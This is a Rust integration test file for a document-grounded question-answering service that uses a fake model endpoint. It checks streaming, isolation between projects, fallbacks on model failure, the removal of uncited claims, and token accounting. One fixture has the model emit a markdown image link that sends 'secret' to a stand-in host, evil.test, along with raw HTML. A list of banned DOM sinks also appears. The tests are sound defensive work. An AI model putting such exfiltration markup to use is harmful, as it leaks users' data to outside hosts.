//! Answers that a language model writes, and what happens when it does not.

use std::time::{Duration, Instant};

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::support::{
    Person, TestApp,
    endpoint::{Act, FakeModel, KEY},
    visitor::{Visitor, events, open_widget},
};

const QUESTION: &str = "How do I export my data?";
const PERFECT: [&str; 4] = ["Öffne Settings → ", "Export [1]", ". The archive arrives ", "by mail [1]."];
const WHOLE: &str = "Öffne Settings → Export [1]. The archive arrives by mail [1].";

/// Asks in the dashboard as its page does, and reads the stream to its end.
async fn streamed(person: &mut Person, project: &str, question: &str) -> Vec<(String, Value)> {
    let accept = [("accept", "text/event-stream")];
    let body = Some(json!({ "question": question }));
    let response = person.send(Method::POST, &format!("{project}/questions"), body, &accept).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["content-type"], "text/event-stream");
    events(&response.text().await.unwrap())
}

/// The deltas since the last restart, put together.
fn shown(events: &[(String, Value)]) -> String {
    let mut text = String::new();
    for (name, data) in events {
        match name.as_str() {
            "delta" => text.push_str(data["text"].as_str().unwrap()),
            "restart" => text.clear(),
            _ => {}
        }
    }
    text
}

fn names(events: &[(String, Value)]) -> Vec<&str> {
    events.iter().map(|(name, _)| name.as_str()).collect()
}

#[tokio::test]
async fn an_answer_is_written_from_the_passages_streamed_and_stored() {
    // Three bytes at a time: every character of two or three bytes is cut somewhere.
    let model = FakeModel::start(Act::Say(PERFECT.to_vec(), 3)).await;
    let app = TestApp::with(&model.settings("30")).await;
    let mut ada = app.owner("ada").await;
    let project = ada.guide("Lantern").await;
    let seen = streamed(&mut ada, &project, QUESTION).await;
    assert_eq!(
        (seen.first().unwrap().0.as_str(), seen.last().unwrap().0.as_str()),
        ("started", "done")
    );
    assert!(
        names(&seen).iter().filter(|name| **name == "delta").count() >= 2,
        "sentence by sentence: {seen:?}"
    );
    assert_eq!(shown(&seen), WHOLE);
    let done = &seen.last().unwrap().1;
    assert_eq!((done["text"].as_str(), done["written_by"].as_str()), (Some(WHOLE), Some("model")));
    assert_eq!(
        (done["citations"].as_array().unwrap().len(), done["citations"][0]["n"].as_u64()),
        (1, Some(1))
    );

    let conversation = format!("{project}/conversations/{}", done["conversation"].as_str().unwrap());
    let (_, stored) = ada.get(&conversation).await;
    assert_eq!(
        (stored["turns"][1]["text"].as_str(), stored["turns"][1]["written_by"].as_str()),
        (Some(WHOLE), Some("model"))
    );
}

#[tokio::test]
async fn the_model_is_sent_the_question_and_passages_of_that_project_and_nothing_else() {
    let model = FakeModel::start(Act::Say(PERFECT.to_vec(), 1000)).await;
    let app = TestApp::with(&model.settings("30")).await;
    let (mut ada, mut eve) = (app.owner("ada").await, app.owner("eve").await);
    let project = ada.guide("Lantern").await;
    // The same words in a neighbouring project and in another workspace.
    let secret = b"# Export of the vault\n\nTo export your data from the vault, whisper the word xyzzy to the guard.\n";
    let sibling = ada.project("Sibling").await;
    let foreign = eve.project("Lantern").await;
    for (person, place) in [(&mut ada, &sibling), (&mut eve, &foreign)] {
        person
            .upload(Method::POST, &format!("{place}/documents"), &[("vault.md", secret)])
            .await;
        person.settled(place).await;
    }
    assert_eq!(ada.question(&project, QUESTION).await["written_by"], "model");
    let sent = model.sent();
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].line, "POST /v1/chat/completions HTTP/1.1");
    assert_eq!(sent[0].header("authorization"), Some(format!("Bearer {KEY}").as_str()));
    assert_eq!(
        (sent[0].body["model"].as_str(), sent[0].body["stream"].as_bool()),
        (Some("small"), Some(true))
    );
    assert_eq!(
        sent[0].body["messages"].as_array().unwrap().len(),
        2,
        "instructions, then passages and the question"
    );
    assert!(sent[0].prompt().contains("choose Export") && sent[0].prompt().ends_with(&format!("Question: {QUESTION}")));
    let whole = sent[0].body.to_string();
    for foreign in [
        "xyzzy",
        "vault",
        &ada.email,
        &eve.email,
        "Sibling",
        project.rsplit('/').next().unwrap(),
        "cookie",
    ] {
        assert!(!whole.contains(foreign), "{foreign} was sent: {whole}");
    }
    for (name, value) in &sent[0].headers {
        assert!(
            ["authorization", "content-type", "content-length", "accept", "host"].contains(&name.as_str()),
            "{name}: {value}"
        );
    }
}

#[tokio::test]
async fn an_earlier_turn_is_remembered_in_its_own_conversation_only() {
    let model = FakeModel::start(Act::Say(PERFECT.to_vec(), 1000)).await;
    let app = TestApp::with(&model.settings("30")).await;
    let mut ada = app.owner("ada").await;
    let project = ada.guide("Lantern").await;
    let key = open_widget(&mut ada, &project).await;
    let (mut one, mut two) = (Visitor::begin(&app, &key).await, Visitor::begin(&app, &key).await);
    one.ask("How can I export my data?").await;
    two.ask("How do I export all data?").await;
    one.ask(QUESTION).await;
    let sent = model.sent();
    let said = |n: usize, text: &str| sent[n].body.to_string().contains(text);
    assert_eq!(sent.len(), 3);
    assert!(
        !said(1, "How can I") && sent[1].body["messages"].as_array().unwrap().len() == 2,
        "another visitor's question was sent"
    );
    assert!(said(2, "How can I") && said(2, WHOLE) && !said(2, "all data"), "{}", sent[2].body);
}

#[tokio::test]
async fn a_visitor_reads_the_words_as_they_come() {
    let model = FakeModel::start(Act::Say(PERFECT.to_vec(), 7)).await;
    let app = TestApp::with(&model.settings("30")).await;
    let mut ada = app.owner("ada").await;
    let project = ada.guide("Lantern").await;
    let key = open_widget(&mut ada, &project).await;
    let mut visitor = Visitor::begin(&app, &key).await;
    let body = Some(json!({ "question": QUESTION }));
    let response = visitor
        .send(Method::POST, "questions", body, &[("accept", "text/event-stream")])
        .await;
    let seen = events(&response.text().await.unwrap());
    assert_eq!(shown(&seen), WHOLE);
    let done = &seen.last().unwrap().1;
    assert_eq!(
        (done["written_by"].as_str(), &done["citations"][0]["document"]),
        (Some("model"), &Value::Null)
    );
    let own: Value = visitor.send(Method::GET, "conversation", None, &[]).await.json().await.unwrap();
    assert_eq!(own["turns"][1]["text"], WHOLE);
}

#[tokio::test]
async fn whatever_the_model_does_wrong_the_extracted_answer_takes_its_place_in_time() {
    let elsewhere = FakeModel::start(Act::Say(PERFECT.to_vec(), 1000)).await;
    let model = FakeModel::start(Act::Status(500)).await;
    let app = TestApp::with(&model.settings("6")).await;
    let mut ada = app.owner("ada").await;
    let project = ada.guide("Lantern").await;
    let begun = vec!["The archive arrives by mail [1]. ", "It ", "is somewhere"];
    // How the model fails, and whether something of it was shown before.
    let failures: Vec<(&str, Act, bool)> = vec![
        ("500", Act::Status(500), false),
        ("429", Act::Status(429), false),
        ("hangs before the first word", Act::Stall(vec![]), false),
        ("stalls midway", Act::Stall(begun.clone()), true),
        ("cuts the connection", Act::Cut(begun), true),
        ("malformed JSON", Act::Raw(b"data: {\"choices\":[{\n\n".to_vec()), false),
        (
            "an error as an event",
            Act::Raw(b"data: {\"error\":{\"message\":\"no\"}}\n\n".to_vec()),
            false,
        ),
        ("no events at all", Act::Raw(b"<html>hello</html>".to_vec()), false),
        ("not even text", Act::Raw(vec![0xff; 5000]), false),
        ("redirects", Act::Redirect(format!("{}/chat/completions", elsewhere.url)), false),
        ("knows no answer", Act::Say(vec!["NO_", "ANSWER"], 1000), false),
        ("cites nothing", Act::Say(vec!["Trust me, ", "it just works."], 1000), false),
        (
            "says what no passage says",
            Act::Say(vec!["Whales sing to one ", "another at night [1]."], 1000),
            false,
        ),
        ("100 MB in one line", Act::Flood(vec![b'x'; 1 << 20], 100), false),
        (
            "100 MB of words",
            Act::Flood(
                [b"data: {\"choices\":[{\"delta\":{\"content\":\"word \"}}]}\n\n".repeat(1000)].concat(),
                2000,
            ),
            false,
        ),
    ];
    for (name, act, was_shown) in failures {
        model.act(act);
        let asked = Instant::now();
        let seen = streamed(&mut ada, &project, QUESTION).await;
        assert!(asked.elapsed() < Duration::from_secs(9), "{name} took {:?}", asked.elapsed());
        let done = &seen.last().unwrap().1;
        assert_eq!(
            (seen.last().unwrap().0.as_str(), done["written_by"].as_str()),
            ("done", Some("extract")),
            "{name}"
        );
        assert!(done["text"].as_str().unwrap().contains("choose Export"), "{name}: {done}");
        assert_eq!(names(&seen).contains(&"restart"), was_shown, "{name}: {:?}", names(&seen));
        assert_eq!(
            shown(&seen),
            done["text"].as_str().unwrap(),
            "{name}: what is left on the page is the answer"
        );
    }
    assert!(elsewhere.sent().is_empty(), "the redirect was followed");
}

#[tokio::test]
async fn an_endpoint_that_is_not_there_costs_nobody_an_answer() {
    let settings = [("OPENAI_BASE_URL", "http://127.0.0.1:9/v1"), ("OPENAI_MODEL", "small")];
    let app = TestApp::with(&settings).await;
    let mut ada = app.owner("ada").await;
    let project = ada.guide("Lantern").await;
    assert_eq!(ada.question(&project, QUESTION).await["written_by"], "extract");
}

#[tokio::test]
async fn what_the_passages_do_not_hold_is_not_sent_to_the_model() {
    let model = FakeModel::start(Act::Say(PERFECT.to_vec(), 1000)).await;
    let app = TestApp::with(&model.settings("30")).await;
    let mut ada = app.owner("ada").await;
    let project = ada.guide("Lantern").await;
    let answer = ada.question(&project, "Who was the first king of France?").await;
    assert_eq!(
        (answer["outcome"].as_str(), answer["written_by"].as_str()),
        (Some("unanswered"), Some("extract"))
    );
    assert!(model.sent().is_empty());
}

#[tokio::test]
async fn without_an_endpoint_answers_are_extracted() {
    // What else may be in the environment of a server is no setting of ours.
    let model = FakeModel::start(Act::Say(PERFECT.to_vec(), 1000)).await;
    let app = TestApp::start().await;
    let mut ada = app.owner("ada").await;
    let project = ada.guide("Lantern").await;
    assert_eq!(ada.question(&project, QUESTION).await["written_by"], "extract");
    assert!(model.sent().is_empty());
}

#[tokio::test]
async fn of_what_the_model_writes_only_what_the_passages_say_is_told() {
    let made_up = vec![
        "Open **Settings** and choose Export [1]. ",
        "It costs 99 dollars [1]. ",
        "Whales sing to one another at night [1]. ",
        "Refunds take five business days [7].\n\n",
        "![x](https://evil.test/?q=secret) <b>The archive</b> arrives by [mail](https://evil.test/) [1].",
    ];
    let model = FakeModel::start(Act::Say(made_up, 1000)).await;
    let app = TestApp::with(&model.settings("30")).await;
    let mut ada = app.owner("ada").await;
    let project = ada.guide("Lantern").await;
    let seen = streamed(&mut ada, &project, QUESTION).await;
    let done = &seen.last().unwrap().1;
    let text = done["text"].as_str().unwrap();
    assert_eq!(done["written_by"], "model");
    assert!(
        text.starts_with("Open **Settings** and choose Export [1]. Refunds take five business days.")
            && text.ends_with("The archive arrives by mail [1]."),
        "{text}"
    );
    for never in ["99 dollars", "Whales", "evil.test", "<b>", "[7]"] {
        assert!(!text.contains(never), "{never}: {text}");
        assert!(!seen.iter().any(|(_, data)| data.to_string().contains(never)), "{never} was shown");
    }
    assert_eq!(shown(&seen), text, "nothing was taken back");
}

/// What the project's account says of today.
async fn account(person: &mut Person, project: &str) -> Value {
    let (status, account) = person.get(&format!("{project}/model-use?days=7")).await;
    assert_eq!(status, StatusCode::OK);
    account
}

#[tokio::test]
async fn tokens_are_counted_by_project_and_day_with_what_they_cost() {
    let model = FakeModel::start(Act::Counted(PERFECT.to_vec(), 1_000, 200)).await;
    let mut settings = model.settings("30").to_vec();
    settings.extend([
        ("OPENAI_PRICE_INPUT", "0.15"),
        ("OPENAI_PRICE_OUTPUT", "0.6"),
        ("OPENAI_CURRENCY", "EUR"),
    ]);
    // On which midnight does not come.
    let clock = pernoex::Clock::manual(1_700_000_000_000);
    let app = TestApp::start_with(clock, &settings).await;
    let mut ada = app.owner("ada").await;
    let (project, other) = (ada.guide("Lantern").await, ada.guide("Sibling").await);
    let before = account(&mut ada, &project).await;
    assert_eq!(
        (before["model"].as_str(), before["totals"]["answers"].as_i64()),
        (Some("small"), Some(0))
    );
    for _ in 0..2 {
        assert_eq!(ada.question(&project, QUESTION).await["written_by"], "model");
    }
    assert_eq!(model.sent()[0].body["stream_options"]["include_usage"], true);
    let totals = json!({ "answers": 2, "guessed": 0, "tokens_in": 2_000, "tokens_out": 400, "cost_micros": 540 });
    let now = account(&mut ada, &project).await;
    assert_eq!((&now["totals"], now["currency"].as_str()), (&totals, Some("EUR")));
    assert_eq!(now["days"].as_array().unwrap().len(), 1);
    // An endpoint that does not say, and one that fails midway: what they took is counted here.
    model.act(Act::Say(PERFECT.to_vec(), 1000));
    ada.question(&project, QUESTION).await;
    model.act(Act::Cut(vec!["The archive arrives by mail [1]. ", "It"]));
    assert_eq!(ada.question(&project, QUESTION).await["written_by"], "extract");
    let now = account(&mut ada, &project).await;
    let guessed = &now["totals"];
    assert_eq!((guessed["answers"].as_i64(), guessed["guessed"].as_i64()), (Some(4), Some(2)));
    assert!(
        guessed["tokens_in"].as_i64().unwrap() > 2_200 && guessed["tokens_out"].as_i64().unwrap() > 410,
        "{guessed}"
    );
    // What was not asked of it, and what it refused, took nothing.
    ada.question(&project, "Who was the first king of France?").await;
    model.act(Act::Status(429));
    ada.question(&project, QUESTION).await;
    assert_eq!(account(&mut ada, &project).await["totals"], *guessed);
    assert_eq!(account(&mut ada, &other).await["totals"]["answers"], 0);
}

#[tokio::test]
async fn an_endpoint_that_cannot_count_tokens_is_asked_once_more_and_then_never_again() {
    let model = FakeModel::start(Act::Picky(PERFECT.to_vec())).await;
    let mut app = TestApp::with(&model.settings("30")).await;
    app.stick();
    let mut ada = app.owner("ada").await;
    let project = ada.guide("Lantern").await;
    for _ in 0..2 {
        assert_eq!(ada.question(&project, QUESTION).await["written_by"], "model");
    }
    let options: Vec<bool> = model.sent().iter().map(|sent| sent.body.get("stream_options").is_some()).collect();
    assert_eq!(options, [true, false, false]);
}

/// The pages have no way to make markup of an answer: not one of their scripts names one.
#[test]
fn no_script_of_the_pages_turns_text_into_markup() {
    fn scripts(folder: &std::path::Path, found: &mut Vec<std::path::PathBuf>) {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                scripts(&path, found);
            } else if path.extension().is_some_and(|extension| extension == "js" || extension == "html") {
                found.push(path);
            }
        }
    }
    let mut found = Vec::new();
    scripts(&std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("static"), &mut found);
    assert!(found.len() > 20);
    for path in found {
        let text = std::fs::read_to_string(&path).unwrap();
        for way in [
            "innerHTML",
            "outerHTML",
            "insertAdjacentHTML",
            "setHTMLUnsafe",
            "document.write",
            "createContextualFragment",
            "DOMParser",
            "srcdoc",
            "eval(",
            "new Function",
        ] {
            assert!(!text.contains(way), "{way} in {}", path.display());
        }
    }
}
